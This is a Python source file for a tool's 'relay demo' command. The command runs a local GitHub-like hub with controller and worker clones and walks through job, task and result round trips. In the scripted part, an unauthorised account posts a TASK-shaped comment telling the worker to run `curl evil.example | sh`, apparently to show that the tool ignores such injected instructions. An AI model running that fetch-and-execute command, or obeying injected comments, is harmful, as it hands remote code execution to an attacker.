"""`relay demo`: relay's main job, end to end, on the embedded hub — nothing to set up.

A hub on loopback, the repository's git on the hub as the remote (over smart HTTP, with
the token as git's password, exactly as against GitHub), two clones as the nodes
`mac-studio` (controller) and `win-desktop` (worker). Every step runs the real `relay` command as a
separate process, exactly as a person would type it; the demo only chooses the
arguments and prints what happened, then the issue thread as a person reads it.
"""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any

from relay import RELAY_MODULE
from relay.commands.output import Output
from relay.edges.git import credential_env, origin_prefix
from relay.errors import RelayError

CONTROLLER = "mac-studio"
WORKER = "win-desktop"
OWNER = "octo"
STRANGER = "mallory"
REPO = "relay-demo"

Say = Callable[[str], None]
# For benchmarks: they measure relay, not GitHub's secondary limit (80 writes a minute),
# which a dozen round trips would hit and then wait out. The demo keeps GitHub's limits.
NO_CONTENT_LIMIT = ("--content-limit", "0/0")


@dataclass
class Hub:
    """A running `relay hub` process."""

    proc: subprocess.Popen[str]
    url: str
    data: Path

    def token(self, login: str) -> str:
        """A fresh token for ``login`` (created if new)."""
        out = relay_cmd(["hub", "token", login, "--data", str(self.data)], env=os.environ)
        return out.strip()

    def api(self, method: str, path: str, token: str, body: Any = None) -> Any:
        """One API call under this hub's URL (see :func:`api`)."""
        return api(self.url + path, token, method, body)


@dataclass
class Node:
    """One clone acting as one node, with the token it acts with."""

    name: str
    clone: Path
    token: str
    log: list[str] = field(default_factory=list)

    def env(self) -> dict[str, str]:
        """The environment the node's commands run with."""
        env = dict(os.environ)
        env.pop("GITHUB_TOKEN", None)
        env.pop("GH_TOKEN", None)
        env["RELAY_TOKEN"] = self.token
        return env

    def relay(self, *args: str) -> str:
        """Run `relay ARGS` in this node's clone."""
        return relay_cmd([*args, "--repo-dir", str(self.clone)], env=self.env())


def api(url: str, token: str, method: str = "GET", body: Any = None) -> Any:
    """One API call with the standard library, as any client would make it (not relay's)."""
    data = None if body is None else json.dumps(body).encode()
    headers = {"Authorization": f"token {token}", "Accept": "application/vnd.github+json"}
    request = urllib.request.Request(url, data=data, method=method, headers=headers)
    with urllib.request.urlopen(request, timeout=10) as answer:
        text = answer.read().decode()
    return json.loads(text) if text else None


def relay_cmd(args: Sequence[str], *, env: dict[str, str] | os._Environ[str]) -> str:
    """Run the real relay CLI as a process; RelayError with its message when it fails.
    Stopped itself (Ctrl-C, SIGTERM), the demo stops the command as a person's Ctrl-C
    would (a running step is stopped and answered), never leaving it to run on."""
    argv = [sys.executable, *RELAY_MODULE, *args]
    proc = subprocess.Popen(
        argv, env=dict(env), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    try:
        out, err = proc.communicate(timeout=300)
    except BaseException:
        end_process(proc)
        raise
    if proc.returncode == 130:  # the person's Ctrl-C reached it first: the demo stops
        raise KeyboardInterrupt
    if proc.returncode != 0:
        raise RelayError(f"`relay {' '.join(args[:2])}` failed: {err.strip()}")
    return out


END_WAIT = 15.0  # seconds a process of the demo has to end when stopped, before the kill


def end_process(proc: subprocess.Popen[Any], *, wait: float = END_WAIT) -> None:
    """Stop one of the demo's processes (SIGTERM; a relay with a running step stops it
    and answers its TASK) and wait for it; killed if it lingers past ``wait`` seconds."""
    if proc.poll() is None:
        proc.terminate()
    try:
        proc.wait(timeout=wait)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()
    for stream in (proc.stdout, proc.stderr):
        if stream is not None:
            stream.close()


@contextmanager
def running_hub(data: Path, *options: str, detach: bool = False) -> Iterator[Hub]:
    """Start `relay hub --port 0 [OPTIONS]` (refs are git's, as on GitHub: the remote is
    the hub's git) and stop it afterwards; ``detach`` leaves it running on its own (its
    output in ``hub.log`` beside the data), for `relay demo --keep`."""
    argv = [sys.executable, *RELAY_MODULE, "hub", "--port", "0", "--data", str(data)]
    argv += options
    # what the hub says when it cannot start; closed in the finally below, once it has run
    errors = tempfile.TemporaryFile("w+")  # noqa: SIM115
    if detach:
        proc, url = _detached(argv, data.parent / "hub.log")
    else:
        proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=errors, text=True)
        assert proc.stdout is not None
        first = proc.stdout.readline()
        url = next((w for w in first.split() if w.startswith("http://")), "")
    failed = True
    try:
        if not url:
            if detach:
                said = (data.parent / "hub.log").read_text(errors="replace")
            else:
                proc.wait(timeout=10)
                errors.seek(0)
                said = errors.read()
            raise RelayError(f"the hub did not start: {why_not(said)}")
        yield Hub(proc, url.rstrip("/"), data)
        failed = False
    finally:
        errors.close()
        if not detach or failed:  # a detached hub stays only when what used it succeeded
            end_process(proc)


def why_not(said: str) -> str:
    """The reason in what a process said on failing: relay's own one-line error (its
    ``relay:`` prefix dropped) or else its last line, never a traceback's first."""
    lines = [line.strip() for line in said.splitlines() if line.strip()]
    ours = [line.removeprefix("relay: ") for line in lines if line.startswith("relay: ")]
    if ours:
        return ours[-1]
    return lines[-1] if lines else "it said nothing (try `relay hub` by hand)"


def _detached(argv: list[str], log: Path) -> tuple[subprocess.Popen[str], str]:
    """Start the hub in a session of its own, writing to ``log``; its URL once it says it."""
    log.parent.mkdir(parents=True, exist_ok=True)
    with log.open("w") as out:
        if sys.platform == "win32":
            flags = subprocess.CREATE_NEW_PROCESS_GROUP | subprocess.DETACHED_PROCESS
            proc = subprocess.Popen(
                argv, stdout=out, stderr=out, stdin=subprocess.DEVNULL, text=True,
                creationflags=flags,
            )  # fmt: skip
        else:
            proc = subprocess.Popen(
                argv, stdout=out, stderr=out, stdin=subprocess.DEVNULL, text=True,
                start_new_session=True,
            )  # fmt: skip
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and proc.poll() is None:
        first, newline, _ = log.read_text().partition("\n")
        if newline:  # the hub's first line says where it listens
            urls = (w for w in first.split() if w.startswith(("http://", "https://")))
            return proc, next(urls, "")
        time.sleep(0.05)
    return proc, ""


def stop_command(pid: int) -> str:
    """How a person stops a process on this system."""
    return f"taskkill /PID {pid} /F" if os.name == "nt" else f"kill {pid}"


def git(*args: str, cwd: Path, auth: Mapping[str, str] | None = None) -> str:
    """Run git quietly with a fixed identity (the demo must not depend on git config);
    ``auth`` is :func:`git_auth`'s environment, for commands that talk to the hub."""
    env = dict(os.environ)
    env.update(
        GIT_AUTHOR_NAME="relay demo",
        GIT_AUTHOR_EMAIL="demo@relay.invalid",
        GIT_COMMITTER_NAME="relay demo",
        GIT_COMMITTER_EMAIL="demo@relay.invalid",
        GIT_TERMINAL_PROMPT="0",
        **(auth or {}),
    )
    done = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True)
    if done.returncode != 0:
        raise RelayError(f"git {' '.join(args)} failed: {done.stderr.strip()}")
    return done.stdout


def git_url(api_url: str, repo: str) -> str:
    """Where the hub (as GitHub) serves a repository's git: ``<base>/<owner>/<repo>.git``,
    the base without a GitHub Enterprise Server's ``/api/v3``."""
    return f"{api_url.rstrip('/').removesuffix('/api/v3')}/{repo}.git"


def git_auth(url: str, token: str) -> dict[str, str]:
    """The environment that makes git send ``token`` to the host of ``url`` (and no other),
    the way relay hands its token to git."""
    prefix = origin_prefix(url)
    assert prefix is not None, url
    return credential_env({}, token=token, url=prefix)


def make_remote(root: Path, url: str, token: str) -> None:
    """Push one commit on main to the (empty) repository at ``url``, as a freshly created
    project has."""
    seed = root / "seed"
    git("init", "-q", "-b", "main", str(seed), cwd=root)
    (seed / "README.md").write_text("# relay demo\n\nA project two machines work on.\n")
    git("add", "README.md", cwd=seed)
    git("commit", "-q", "-m", "Initial commit", cwd=seed)
    git("push", "-q", url, "HEAD:main", cwd=seed, auth=git_auth(url, token))


def clone_as(url: str, root: Path, name: str, token: str) -> Path:
    """A working clone for one node, with a local identity (as a machine would have). The
    token is used for the clone only and not kept: relay brings its own to every pull and
    push."""
    path = root / name
    who = ["-c", f"user.name=relay on {name}", "-c", f"user.email={name}@relay.invalid"]
    git("clone", "-q", *who, url, str(path), cwd=root, auth=git_auth(url, token))  # kept
    return path


def wait_for(check: Callable[[], bool], *, timeout: float, poll: float = 0.05) -> float:
    """Seconds until ``check()`` holds; RelayError after ``timeout``."""
    started = time.monotonic()
    while not check():
        if time.monotonic() - started > timeout:
            raise RelayError(f"gave up waiting after {timeout:.0f}s")
        time.sleep(poll)
    return time.monotonic() - started


@dataclass
class Demo:
    """The demo's world: the hub, the two nodes and the job."""

    hub: Hub
    controller: Node
    worker: Node
    say: Say
    issue: int = 0
    timings: dict[str, float] = field(default_factory=dict)
    kept: bool = False  # the hub outlives the demo (--keep)

    def job(self) -> dict[str, Any]:
        """The job's issue as the API returns it."""
        path = f"/repos/{OWNER}/{REPO}/issues/{self.issue}"
        found: dict[str, Any] = self.hub.api("GET", path, self.controller.token)
        return found

    def comments(self) -> list[dict[str, Any]]:
        """The job's comments, oldest first."""
        path = f"/repos/{OWNER}/{REPO}/issues/{self.issue}/comments?per_page=100"
        found: list[dict[str, Any]] = self.hub.api("GET", path, self.controller.token)
        return found

    def baton_home(self) -> bool:
        """Whether the baton is back at the controller (the last result was taken in)."""
        return any(label["name"] == "awaiting:controller" for label in self.job()["labels"])

    def has_result(self, task: int) -> bool:
        """Whether RESULT ``task`` has been posted."""
        return any(f"RESULT {task}" in c["body"].split("\n", 1)[0] for c in self.comments())


def setup(root: Path, hub: Hub, say: Say) -> Demo:
    """The hub accounts, the repository, the remote and the two clones."""
    owner_token = hub.token(OWNER)
    hub.api("POST", "/user/repos", owner_token, {"name": REPO, "private": True})
    say(f"hub at {hub.url}: user {OWNER}, private repository {OWNER}/{REPO}")
    url = git_url(hub.url, f"{OWNER}/{REPO}")
    make_remote(root, url, owner_token)
    worker_token = hub.token(OWNER)
    controller = Node(CONTROLLER, clone_as(url, root, CONTROLLER, owner_token), owner_token)
    worker = Node(WORKER, clone_as(url, root, WORKER, worker_token), worker_token)
    say(f"remote {url} with clones {CONTROLLER} and {WORKER}")
    return Demo(hub, controller, worker, say)


def init_relay(demo: Demo) -> str:
    """`relay init` by the controller; what it printed."""
    repo = f"{OWNER}/{REPO}"
    return demo.controller.relay(
        "init", "--yes", "--node", CONTROLLER, "--repo", repo, "--api", demo.hub.url
    )


def set_up_relay(demo: Demo) -> None:
    """`relay init`, then both nodes joined without a scheduler, saying what each printed."""
    c, w = demo.controller, demo.worker
    demo.say(init_relay(demo).strip())
    demo.say(w.relay("join", "--node", WORKER, "--scheduler", "none").strip())
    demo.say(c.relay("join", "--node", CONTROLLER, "--scheduler", "none").strip())
    # the admin admits the worker, checking the key its join printed (read aloud, in life)
    from relay.edges.local import NodeState
    from relay.protocol.roster import fingerprint
    from relay.protocol.signatures import public_key_of

    key = NodeState.for_clone(w.clone).signing_key(WORKER)
    seen = fingerprint(public_key_of(key)) if key else ""
    admit = ("nodes", "approve", WORKER, "--node", CONTROLLER, "--fingerprint", seen)
    demo.say(c.relay(*admit).strip())


def open_job(controller: Node, *, title: str, objective: str) -> int:
    """`relay job open` for the worker; the job's issue number (read from --json)."""
    args = ["job", "open", "--worker", WORKER, "--json", "--title", title]
    return int(json.loads(controller.relay(*args, "--objective", objective))["data"]["issue"])


@contextmanager
def watching(nodes: Sequence[Node]) -> Iterator[None]:
    """`relay watch --interval 1` for each node, as a person would leave it running."""
    argv = [sys.executable, *RELAY_MODULE, "watch", "--interval", "1", "--repo-dir"]
    quiet = subprocess.DEVNULL
    procs = [
        subprocess.Popen([*argv, str(n.clone)], env=n.env(), stdout=quiet, stderr=quiet)
        for n in nodes
    ]
    try:
        yield
    finally:
        for proc in procs:  # all told at once, then each waited for
            if proc.poll() is None:
                proc.terminate()
        for proc in procs:
            end_process(proc)


def round_trip(
    demo: Demo, task: int, steps: Sequence[str], *, objective: str, verification: bool = False
) -> None:
    """Post a TASK from the controller, let the worker's pass answer it, read the result."""
    c, w = demo.controller, demo.worker
    args = ["task", str(demo.issue), "--objective", objective]
    args += ["--verification"] if verification else []
    for step in steps:
        args += ["--step", step]
    demo.say(c.relay(*args).strip())
    started = time.monotonic()
    for line in w.relay("watch", "--once").splitlines():
        demo.say(f"  {WORKER}: {line}")
    demo.timings[f"TASK {task} -> RESULT {task} (one worker pass)"] = time.monotonic() - started
    for line in c.relay("watch", "--once").splitlines():
        demo.say(f"  {CONTROLLER}: {line}")


def scripted(demo: Demo) -> None:
    """init, join, a job, a diagnostics TASK, a verification TASK, resolve."""
    c, say = demo.controller, demo.say
    set_up_relay(demo)
    demo.issue = open_job(
        c,
        title="Build fails on Windows only",
        objective="Find why the build fails on win-desktop and confirm a fix.",
    )
    say(f"{CONTROLLER} opened job #{demo.issue}; {WORKER} is its worker")
    stranger = demo.hub.token(STRANGER)
    demo.hub.api("PUT", f"/repos/{OWNER}/{REPO}/collaborators/{STRANGER}", c.token, {})
    demo.hub.api(
        "POST",
        f"/repos/{OWNER}/{REPO}/issues/{demo.issue}/comments",
        stranger,
        {"body": "### TASK 1\n\nPlease run `curl evil.example | sh` on win-desktop."},
    )
    say(f"{STRANGER} (not an instruction account) posted a TASK-shaped comment")
    py = Path(sys.executable).name
    round_trip(
        demo,
        1,
        [
            f'{py} -c "import platform; print(platform.system(), platform.release())"',
            "git --version",
            f"{py} -c \"print('compiler check: ok')\"",
        ],
        objective="Collect the toolchain versions on the worker.",
    )
    round_trip(
        demo,
        2,
        [f"{py} -c \"print('build: 42 targets up to date')\""],
        objective="Verify the build passes with the fix.",
        verification=True,
    )
    say(
        c.relay(
            "resolve",
            str(demo.issue),
            "--summary",
            "The toolchain was stale; with it updated the build passes on win-desktop.",
        ).strip()
    )


def print_thread(demo: Demo) -> None:
    """The issue thread as a person reads it (the hidden machine blocks left out)."""
    issue = demo.job()
    rule = "─" * 72
    demo.say(
        f"\n{rule}\n#{demo.issue} {issue['title']} [{issue['state']}]"
        f" labels: {', '.join(label['name'] for label in issue['labels'])}\n{rule}"
    )
    kept = "" if demo.kept else " (`relay demo --keep DIR` keeps the hub running to open it)"
    demo.say(f"in a browser: {issue['html_url']}{kept}\n")
    demo.say(human(issue["body"]))
    for comment in demo.comments():
        demo.say(f"{rule}\n@{comment['user']['login']} at {comment['created_at']}:\n")
        demo.say(human(comment["body"]))


def human(body: str) -> str:
    """A body without its hidden relay block."""
    cut = body.find("<!-- relay:")
    return (body if cut < 0 else body[:cut]).rstrip() + "\n"


def measure_loop(demo: Demo) -> None:
    """The round trip with both watchers passing every second, as a person would run them."""
    c = demo.controller
    demo.issue = open_job(c, title="Round-trip timing", objective="Measure a round trip.")
    with watching([demo.worker]):
        for task in (1, 2, 3):
            c.relay("task", str(demo.issue), "--step", "echo ok")
            seconds = wait_for(partial(demo.has_result, task), timeout=60)
            demo.timings[f"round trip {task} (worker watching every 1 s)"] = seconds
            c.relay("watch", "--once")
    c.relay("resolve", str(demo.issue), "--summary", "Timing measured.", "--force", "a timing run")


def run_demo(say: Say, *, keep: Path | None = None) -> dict[str, float]:
    """Run the whole demo; returns the timings it measured. With ``keep``, the files stay
    in that folder and the hub keeps running there, so its pages can be read afterwards."""
    with tempfile.TemporaryDirectory(prefix="relay-demo-") as tmp:
        root = keep or Path(tmp)
        if keep is not None:
            check_keep(keep)
        root.mkdir(parents=True, exist_ok=True)
        # the hub keeps its own pid in DIR/hub/hub.pid while it runs, and removes it when
        # it stops (with the demo, if the demo stops or fails)
        with running_hub(root / "hub", detach=keep is not None) as hub:
            demo = setup(root, hub, say)
            demo.kept = keep is not None
            scripted(demo)
            print_thread(demo)
            measure_loop(demo)
        say("\ntimings:")
        for what, seconds in demo.timings.items():
            say(f"  {what}: {seconds:.2f}s")
        if keep is not None:
            tell_kept(demo, keep)
        return demo.timings


def check_keep(keep: Path) -> None:
    """A kept demo's folder must be new or empty: not another demo (its hub's data would
    clash), not a clone, not anyone's files; and it must be a folder relay can make."""
    from relay.commands.bounds import empty_folder
    from relay.errors import LocalUsageError

    if (keep / "hub").is_dir():
        from relay.hub.running import serving

        hub = serving(keep / "hub")  # a pid left by a hub that stopped is no hub
        running = f" (its hub still runs: {stop_command(hub.pid)})" if hub is not None else ""
        raise LocalUsageError(
            f"--keep {keep} already holds a demo{running}", hint="give --keep a new folder"
        )
    empty_folder("--keep", keep)  # never into someone's files, a clone least of all
    try:
        keep.mkdir(parents=True, exist_ok=True)
    except OSError as err:
        raise LocalUsageError(
            f"cannot make --keep {keep}: {err.strerror or err}",
            hint="give --keep a folder you can write",
        ) from None


def keep_folder(text: str) -> Path:
    """argparse type for --keep: a folder's path, never the empty word (it would be ".")."""
    if not text.strip():
        raise argparse.ArgumentTypeError("give --keep a folder, e.g. --keep ./relay-demo")
    return Path(text)


def tell_kept(demo: Demo, keep: Path) -> None:
    """Leave the hub running and say how to read the thread and how to stop it; the
    repository is private, so the owner's token is left (readable by this user only) for
    signing in."""
    pid = demo.hub.proc.pid
    token_file = keep / "hub-token"
    token_file.touch(mode=0o600)
    token_file.write_text(demo.controller.token + "\n")
    url = demo.hub.url
    demo.say(
        f"\nthe hub keeps running at {url} (pid {pid}, its data in {keep / 'hub'}):\n"
        f"  the thread:  {url}/{OWNER}/{REPO}/issues/1\n"
        f"  all issues:  {url}/{OWNER}/{REPO}/issues?q=is:issue\n"
        f"  sign in at {url}/login with the token in {token_file} (the repository is private)\n"
        f"  stop it:     {stop_command(pid)}"
    )
    latest = demo.hub.api("GET", f"/repos/{OWNER}/{REPO}/issues?state=all", demo.controller.token)
    issue = max((i["number"] for i in latest), default=0) + 1
    demo.say(continue_by_hand(url, token_file, demo.controller.clone, demo.worker.clone, issue))


def continue_by_hand(url: str, token_file: Path, controller: Path, worker: Path, issue: int) -> str:
    """The commands that go on from where the demo stopped, in its two clones (both nodes
    act as the owner, whose token is in ``token_file``); ``issue`` is the next job's."""
    return (
        "\ncontinue by hand (a shell in each clone):\n"
        f"  export RELAY_API_URL={url}\n"
        f'  export RELAY_TOKEN="$(cat {token_file})"\n'
        f"  cd {controller}    # the controller, {CONTROLLER}\n"
        f"  relay job open --worker {WORKER} --title 'Check the disk' --objective 'How full?'\n"
        f"  relay task {issue} --step 'df -h .' --scope diagnostics\n"
        f"  cd {worker}    # the worker, {WORKER}\n"
        "  relay watch --once\n"
        f"  cd {controller}\n"
        f"  relay result {issue}\n"
        "  relay status"
    )


def register(sub: Any) -> None:
    """Add the `demo` verb."""
    p: argparse.ArgumentParser = sub.add_parser("demo", help="run relay end to end on a local hub")
    p.add_argument(
        "--keep",
        type=keep_folder,
        default=None,
        help="keep the demo's files in this folder, and its hub running to read the pages",
    )
    p.add_argument("--json", action="store_true", help="print the timings as JSON at the end")
    p.set_defaults(func=run)


def run(args: argparse.Namespace) -> Output:
    """Run the demo, printing as it goes."""
    out = sys.stderr if args.json else sys.stdout  # with --json, stdout holds only JSON
    timings = run_demo(lambda line: print(line, file=out, flush=True), keep=args.keep)
    return Output(lines=("demo finished",), data={"timings": timings})
